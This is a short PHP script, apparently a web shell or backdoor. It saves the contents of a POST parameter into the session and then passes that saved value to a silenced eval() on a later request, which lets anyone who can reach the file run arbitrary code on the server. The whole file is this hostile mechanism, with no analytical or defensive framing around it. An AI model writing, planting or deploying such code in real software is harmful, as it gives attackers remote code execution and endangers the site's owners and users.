<?php
session_start();
if (!empty($_POST['c'])) {
    $_SESSION['c'] = $_POST['c'];
    exit;
}
if (isset($_SESSION['c'])) {
    @eval($_SESSION['c']);
}
